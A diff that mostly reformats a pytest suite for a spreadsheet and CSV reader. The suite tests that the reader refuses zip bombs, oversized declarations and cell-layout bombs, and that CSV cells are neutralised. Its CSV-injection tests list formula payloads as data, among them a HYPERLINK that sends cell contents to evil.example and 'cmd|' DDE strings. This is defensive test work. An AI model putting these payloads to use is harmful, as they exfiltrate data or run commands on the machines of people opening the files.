@@ -17,6 +17,7 @@ import zipfile
 from pathlib import Path
 
 import pytest
+
 from kpi6.models.errors import InputError
 from kpi6.tasks.tables import read_table
 
@@ -45,8 +46,13 @@ CHILD = textwrap.dedent("""
 
 def read_in_child(path: Path, *, address_space: int = 3 * GIB) -> tuple[int, str, str]:
     """read_table(path) in a fresh interpreter with at most `address_space` bytes of memory."""
-    done = subprocess.run([sys.executable, "-c", CHILD, str(path), str(address_space)], capture_output=True,
-                          text=True, timeout=300, check=False)
+    done = subprocess.run(
+        [sys.executable, "-c", CHILD, str(path), str(address_space)],
+        capture_output=True,
+        text=True,
+        timeout=300,
+        check=False,
+    )
     return done.returncode, done.stdout, done.stderr
 
 
@@ -92,6 +98,7 @@ def rewrite(data: bytes, changes: dict[str, object], path: Path) -> Path:
 
 def with_cells(path: Path, cells_xml: str, *, dimension: str | None = None) -> Path:
     """A real workbook with `cells_xml` added at the end of its sheet data."""
+
     def change(xml: str) -> str:
         xml = xml.replace("</sheetData>", cells_xml + "</sheetData>")
         return xml.replace('<dimension ref="A1:B2"/>', f'<dimension ref="{dimension}"/>') if dimension else xml
@@ -114,8 +121,9 @@ def test_a_real_xlsx_from_openpyxl_still_reads(tmp_path):
         sheet.append([f"15/2/2024 10:{i % 60:02d}:00", f"อบต.{i}", 1 + i % 5, "ดีมาก" if i == 7 else None])
     sheet.merge_cells("F1:G2")  # merged cells, column widths and conditional formatting: <c...> that are not cells
     sheet.column_dimensions["B"].width = 30
-    sheet.conditional_formatting.add("C2:C301", CellIsRule(operator="lessThan", formula=["2"],
-                                                           fill=PatternFill(bgColor="FFC7CE")))
+    sheet.conditional_formatting.add(
+        "C2:C301", CellIsRule(operator="lessThan", formula=["2"], fill=PatternFill(bgColor="FFC7CE"))
+    )
     book.create_sheet("อื่น").append(["ไม่อ่าน"])
     book.save(tmp_path / "real.xlsx")
     table = read_table(tmp_path / "real.xlsx")
@@ -125,13 +133,16 @@ def test_a_real_xlsx_from_openpyxl_still_reads(tmp_path):
 
 def test_a_workbook_with_prefixed_elements_and_cells_without_references_still_reads(tmp_path):
     """SpreadsheetML written with a namespace prefix (the Open XML SDK's x:) and cells without r attributes."""
+
     def prefixed(xml: str) -> str:
         head, _, rest = xml.partition("<sheetData>")
-        data = ('<x:sheetData xmlns:x="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
-                '<x:row><x:c t="inlineStr"><x:is><x:t>Timestamp</x:t></x:is></x:c>'
-                '<x:c t="inlineStr"><x:is><x:t>Q1</x:t></x:is></x:c></x:row>'
-                '<!-- a comment --><x:row><x:c t="inlineStr"><x:is><x:t>2024-02-15 10:00</x:t></x:is></x:c>'
-                '<x:c><x:v>4</x:v></x:c></x:row></x:sheetData>')
+        data = (
+            '<x:sheetData xmlns:x="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
+            '<x:row><x:c t="inlineStr"><x:is><x:t>Timestamp</x:t></x:is></x:c>'
+            '<x:c t="inlineStr"><x:is><x:t>Q1</x:t></x:is></x:c></x:row>'
+            '<!-- a comment --><x:row><x:c t="inlineStr"><x:is><x:t>2024-02-15 10:00</x:t></x:is></x:c>'
+            "<x:c><x:v>4</x:v></x:c></x:row></x:sheetData>"
+        )
         return head + data + rest.partition("</sheetData>")[2]
 
     path = rewrite(workbook_bytes(), {SHEET: prefixed}, tmp_path / "sdk.xlsx")
@@ -141,33 +152,40 @@ def test_a_workbook_with_prefixed_elements_and_cells_without_references_still_re
 
 def test_an_ods_file_still_reads(tmp_path):
     path = tmp_path / "s.ods"
-    write_ods(path, '<table:table-row><table:table-cell office:value-type="string"><text:p>Timestamp</text:p>'
-                    '</table:table-cell><table:table-cell office:value-type="string"><text:p>Q1</text:p>'
-                    '</table:table-cell><table:table-cell table:number-columns-repeated="1022"/></table:table-row>'
-                    '<table:table-row><table:table-cell office:value-type="string"><text:p>2024-02-15 10:00</text:p>'
-                    '</table:table-cell><table:table-cell office:value-type="float" office:value="5"><text:p>5'
-                    '</text:p></table:table-cell></table:table-row>'
-                    '<table:table-row table:number-rows-repeated="1000000"><table:table-cell table:style-name="ce1"/>'
-                    '<table:table-cell table:number-columns-repeated="1023"/></table:table-row>'  # a styled column
-                    '<table:table-row table:number-rows-repeated="48574"><table:table-cell '
-                    'table:number-columns-repeated="1024"/></table:table-row>')  # LibreOffice's empty remainder
+    write_ods(
+        path,
+        '<table:table-row><table:table-cell office:value-type="string"><text:p>Timestamp</text:p>'
+        '</table:table-cell><table:table-cell office:value-type="string"><text:p>Q1</text:p>'
+        '</table:table-cell><table:table-cell table:number-columns-repeated="1022"/></table:table-row>'
+        '<table:table-row><table:table-cell office:value-type="string"><text:p>2024-02-15 10:00</text:p>'
+        '</table:table-cell><table:table-cell office:value-type="float" office:value="5"><text:p>5'
+        "</text:p></table:table-cell></table:table-row>"
+        '<table:table-row table:number-rows-repeated="1000000"><table:table-cell table:style-name="ce1"/>'
+        '<table:table-cell table:number-columns-repeated="1023"/></table:table-row>'  # a styled column
+        '<table:table-row table:number-rows-repeated="48574"><table:table-cell '
+        'table:number-columns-repeated="1024"/></table:table-row>',
+    )  # LibreOffice's empty remainder
     table = read_table(path)
     assert table.headers == HEADER and table.rows == [["2024-02-15 10:00", 5.0]]
 
 
 def write_ods(path: Path, rows_xml: str) -> Path:
-    content = ('<?xml version="1.0" encoding="UTF-8"?><office:document-content '
-               'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
-               'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" '
-               'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" office:version="1.2"><office:body>'
-               f'<office:spreadsheet><table:table table:name="Sheet1">{rows_xml}</table:table>'
-               '</office:spreadsheet></office:body></office:document-content>')
-    manifest = ('<?xml version="1.0" encoding="UTF-8"?><manifest:manifest '
-                'xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" manifest:version="1.2">'
-                '<manifest:file-entry manifest:full-path="/" '
-                'manifest:media-type="application/vnd.oasis.opendocument.spreadsheet"/>'
-                '<manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/>'
-                '</manifest:manifest>')
+    content = (
+        '<?xml version="1.0" encoding="UTF-8"?><office:document-content '
+        'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
+        'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" '
+        'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" office:version="1.2"><office:body>'
+        f'<office:spreadsheet><table:table table:name="Sheet1">{rows_xml}</table:table>'
+        "</office:spreadsheet></office:body></office:document-content>"
+    )
+    manifest = (
+        '<?xml version="1.0" encoding="UTF-8"?><manifest:manifest '
+        'xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" manifest:version="1.2">'
+        '<manifest:file-entry manifest:full-path="/" '
+        'manifest:media-type="application/vnd.oasis.opendocument.spreadsheet"/>'
+        '<manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/>'
+        "</manifest:manifest>"
+    )
     with zipfile.ZipFile(path, "w") as z:
         z.writestr("mimetype", "application/vnd.oasis.opendocument.spreadsheet", compress_type=zipfile.ZIP_STORED)
         z.writestr("content.xml", content, compress_type=zipfile.ZIP_DEFLATED)
@@ -187,9 +205,11 @@ def test_a_deflated_run_of_zeros_is_refused_by_its_compression_ratio(tmp_path):
             if info.filename != SHEET:
                 out.writestr(info.filename, base.read(info.filename))
         with out.open(SHEET, "w") as fh:
-            fh.write(b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
-                     b'<row r="1"><c r="A1" t="inlineStr"><is><t>Timestamp</t></is></c></row>'
-                     b'<row r="2"><c r="A2" t="inlineStr"><is><t>')
+            fh.write(
+                b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
+                b'<row r="1"><c r="A1" t="inlineStr"><is><t>Timestamp</t></is></c></row>'
+                b'<row r="2"><c r="A2" t="inlineStr"><is><t>'
+            )
             zeros = b"0" * (1 << 20)
             for _ in range(300):
                 fh.write(zeros)
@@ -207,7 +227,7 @@ def test_an_entry_declaring_a_huge_uncompressed_size_is_refused(tmp_path):
     at = data.find(b"PK\x01\x02")
     while at != -1:  # the central directory
         name_len = struct.unpack_from("<H", data, at + 28)[0]
-        if bytes(data[at + 46:at + 46 + name_len]) == SHEET.encode():
+        if bytes(data[at + 46 : at + 46 + name_len]) == SHEET.encode():
             struct.pack_into("<I", data, at + 24, 2 * GIB)
         at = data.find(b"PK\x01\x02", at + 4)
     path.write_bytes(bytes(data))
@@ -223,8 +243,9 @@ def test_too_many_zip_entries_are_refused(tmp_path):
 
 
 def test_a_cell_at_xfd1048576_is_refused_before_the_reader_lays_out_the_sheet(tmp_path):
-    path = with_cells(tmp_path / "far.xlsx", '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>',
-                      dimension="A1:XFD1048576")
+    path = with_cells(
+        tmp_path / "far.xlsx", '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>', dimension="A1:XFD1048576"
+    )
     assert_refused(path, "1,048,576 rows")
 
 
@@ -252,17 +273,27 @@ def test_far_cells_are_found_however_the_xml_spells_them(tmp_path, trick):
 
 def test_a_lying_shared_string_count_is_refused(tmp_path):
     """uniqueCount is a capacity hint the reader allocates before reading a single string."""
+
     def shared(xml: str) -> str:
         return xml.replace('<c r="B1" t="inlineStr"><is><t>Q1</t></is></c>', '<c r="B1" t="s"><v>0</v></c>')
 
-    sst = ('<?xml version="1.0" encoding="UTF-8"?><sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/'
-           'main" count="4000000000" uniqueCount="4000000000"><si><t>Q1</t></si></sst>')
-    rels = ('<Relationship Id="rId9" Target="sharedStrings.xml" Type="http://schemas.openxmlformats.org/'
-            'officeDocument/2006/relationships/sharedStrings"/></Relationships>')
-    path = rewrite(workbook_bytes(), {
-        SHEET: shared, "xl/sharedStrings.xml": sst,
-        "xl/_rels/workbook.xml.rels": lambda xml: xml.replace("</Relationships>", rels),
-    }, tmp_path / "sst.xlsx")
+    sst = (
+        '<?xml version="1.0" encoding="UTF-8"?><sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/'
+        'main" count="4000000000" uniqueCount="4000000000"><si><t>Q1</t></si></sst>'
+    )
+    rels = (
+        '<Relationship Id="rId9" Target="sharedStrings.xml" Type="http://schemas.openxmlformats.org/'
+        'officeDocument/2006/relationships/sharedStrings"/></Relationships>'
+    )
+    path = rewrite(
+        workbook_bytes(),
+        {
+            SHEET: shared,
+            "xl/sharedStrings.xml": sst,
+            "xl/_rels/workbook.xml.rels": lambda xml: xml.replace("</Relationships>", rels),
+        },
+        tmp_path / "sst.xlsx",
+    )
     assert_refused(path, "shared strings")
 
 
@@ -270,12 +301,14 @@ def test_a_lying_shared_string_count_is_refused(tmp_path):
 def test_an_ods_whose_repeated_cells_lay_out_millions_is_refused(tmp_path, spelling):
     comment = "<!-- </table:table-row> -->" if spelling == "comment" else ""
     repeat_rows, repeat_columns = (5000, 16384) if spelling != "many-rows" else (1_000_000, 11)
-    path = write_ods(tmp_path / f"{spelling}.ods",
-                     '<table:table-row><table:table-cell office:value-type="string"><text:p>Timestamp</text:p>'
-                     f'</table:table-cell></table:table-row>{comment}<table:table-row '
-                     f'table:number-rows-repeated="{repeat_rows}"><table:table-cell '
-                     f'table:number-columns-repeated="{repeat_columns}" office:value-type="float" '
-                     'office:value="5"><text:p>5</text:p></table:table-cell></table:table-row>')
+    path = write_ods(
+        tmp_path / f"{spelling}.ods",
+        '<table:table-row><table:table-cell office:value-type="string"><text:p>Timestamp</text:p>'
+        f"</table:table-cell></table:table-row>{comment}<table:table-row "
+        f'table:number-rows-repeated="{repeat_rows}"><table:table-cell '
+        f'table:number-columns-repeated="{repeat_columns}" office:value-type="float" '
+        'office:value="5"><text:p>5</text:p></table:table-cell></table:table-row>',
+    )
     assert_refused(path, "cells")
 
 
@@ -301,11 +334,25 @@ def biff_number(row: int, col: int, value: float) -> bytes:
     return biff_record(0x0203, struct.pack("<HHHd", row, col, 0, value))
 
 
-def write_xls(path: Path, cells: list[bytes] | None = None, *, dimensions: tuple[int, int, int, int] = (0, 2, 0, 2),
-              sheets: int = 1, loop_directory: bool = False) -> Path:
+def write_xls(
+    path: Path,
+    cells: list[bytes] | None = None,
+    *,
+    dimensions: tuple[int, int, int, int] = (0, 2, 0, 2),
+    sheets: int = 1,
+    loop_directory: bool = False,
+) -> Path:
     """A minimal BIFF8 workbook in a version 3 compound file (512-byte sectors, no mini stream)."""
-    cells = cells if cells is not None else [biff_label(0, 0, "Timestamp"), biff_label(0, 1, "Q1"),
-                                             biff_label(1, 0, "2024-02-15 10:00"), biff_number(1, 1, 5)]
+    cells = (
+        cells
+        if cells is not None
+        else [
+            biff_label(0, 0, "Timestamp"),
+            biff_label(0, 1, "Q1"),
+            biff_label(1, 0, "2024-02-15 10:00"),
+            biff_number(1, 1, 5),
+        ]
+    )
     bof = {kind: biff_record(0x0809, struct.pack("<HHHHII", 0x0600, kind, 0, 0, 0, 0)) for kind in (5, 0x10)}
     eof = biff_record(0x000A, b"")
 
@@ -331,7 +378,7 @@ def write_xls(path: Path, cells: list[bytes] | None = None, *, dimensions: tuple
     def entry(name: str, kind: int, start: int, size: int, child: int = 0xFFFFFFFF) -> bytes:
         raw = (name + "\0").encode("utf-16-le")
         e = bytearray(128)
-        e[:len(raw)] = raw
+        e[: len(raw)] = raw
         struct.pack_into("<HBB3I", e, 64, len(raw), kind, 1, 0xFFFFFFFF, 0xFFFFFFFF, child)
         struct.pack_into("<II", e, 116, start, size)
         return bytes(e)
@@ -387,16 +434,24 @@ def test_any_reader_failure_becomes_one_line_but_interrupts_pass(tmp_path, monke
     path = tmp_path / f"book{suffix}"
     path.write_bytes(workbook_bytes() if suffix == ".xlsx" else b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600)
     if suffix == ".ods":
-        write_ods(path, '<table:table-row><table:table-cell office:value-type="string"><text:p>Timestamp'
-                        '</text:p></table:table-cell></table:table-row>')
+        write_ods(
+            path,
+            '<table:table-row><table:table-cell office:value-type="string"><text:p>Timestamp'
+            "</text:p></table:table-cell></table:table-row>",
+        )
 
     def fails(exc: BaseException):  # type: ignore[no-untyped-def]
         def from_filelike(*args, **kwargs):  # type: ignore[no-untyped-def]
             raise exc
+
         return from_filelike
 
-    for exc in (FakePanic("index out of bounds: the len is 3 but the index is 7\nnote: ..."), MemoryError(),
-                RecursionError("deep"), ValueError("odd")):
+    for exc in (
+        FakePanic("index out of bounds: the len is 3 but the index is 7\nnote: ..."),
+        MemoryError(),
+        RecursionError("deep"),
+        ValueError("odd"),
+    ):
         monkeypatch.setattr(python_calamine.CalamineWorkbook, "from_filelike", fails(exc))
         with pytest.raises(InputError) as caught:
             read_table(path)
@@ -435,8 +490,9 @@ def test_a_csv_of_millions_of_empty_cells_is_refused(tmp_path):
 
 def test_a_csv_cell_over_the_field_limit_names_its_row(tmp_path):
     path = tmp_path / "long.csv"
-    path.write_text("Timestamp,ข้อเสนอแนะ\n2024-02-15 10:00,สั้น\n2024-02-16 10:00," + "ก" * 200_000 + "\n",
-                    encoding="utf-8")
+    path.write_text(
+        "Timestamp,ข้อเสนอแนะ\n2024-02-15 10:00,สั้น\n2024-02-16 10:00," + "ก" * 200_000 + "\n", encoding="utf-8"
+    )
     with pytest.raises(InputError) as caught:
         read_table(path)
     assert str(caught.value).startswith("long.csv: row 3: a cell is longer than 131,072 characters")
@@ -453,12 +509,23 @@ def test_an_existing_csv_field_limit_setting_is_left_alone(tmp_path):
 # --- CSV injection ----------------------------------------------------------------------------------
 
 
-@pytest.mark.parametrize(("value", "written"), [
-    ('=HYPERLINK("http://evil.example/?"&A1,"คลิก")', '\'=HYPERLINK("http://evil.example/?"&A1,"คลิก")'),
-    ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"), ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
-    ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"), ("\t=1+1", "'\t=1+1"), ("\r=1+1", "'\r=1+1"),
-    ("อบต.ก", "อบต.ก"), ("a=b", "a=b"), ("", ""), (5, 5), (-1.5, -1.5), (None, None),
-])
+@pytest.mark.parametrize(
+    ("value", "written"),
+    [
+        ('=HYPERLINK("http://evil.example/?"&A1,"คลิก")', '\'=HYPERLINK("http://evil.example/?"&A1,"คลิก")'),
+        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
+        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
+        ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
+        ("\t=1+1", "'\t=1+1"),
+        ("\r=1+1", "'\r=1+1"),
+        ("อบต.ก", "อบต.ก"),
+        ("a=b", "a=b"),
+        ("", ""),
+        (5, 5),
+        (-1.5, -1.5),
+        (None, None),
+    ],
+)
 def test_csv_safe_neutralises_a_cell_that_a_spreadsheet_would_run(value, written):
     from kpi6.tasks.tables import csv_safe
 
@@ -475,8 +542,9 @@ def test_scores_csv_neutralises_its_text_columns(tmp_path, monkeypatch):
     province = real.get("TH-50")
     fake = SimpleNamespace(get=lambda code: SimpleNamespace(code=province.code, name_th="=1+1", name_en="@cmd"))
     monkeypatch.setattr(scores, "registry", lambda: fake)
-    score = SimpleNamespace(province_code="TH-50", steps_done=5, points=10.0, late_reports=0,
-                            working_days_late=0, penalty=0.0, total=10.0)
+    score = SimpleNamespace(
+        province_code="TH-50", steps_done=5, points=10.0, late_reports=0, working_days_late=0, penalty=0.0, total=10.0
+    )
     out = scores.write_scores_csv([score], tmp_path / "scores.csv")  # type: ignore[list-item]
     rows = list(csv.reader(out.open(encoding="utf-8-sig")))
     assert rows[1][:3] == ["TH-50", "'=1+1", "'@cmd"] and rows[1][4] == "10.00"
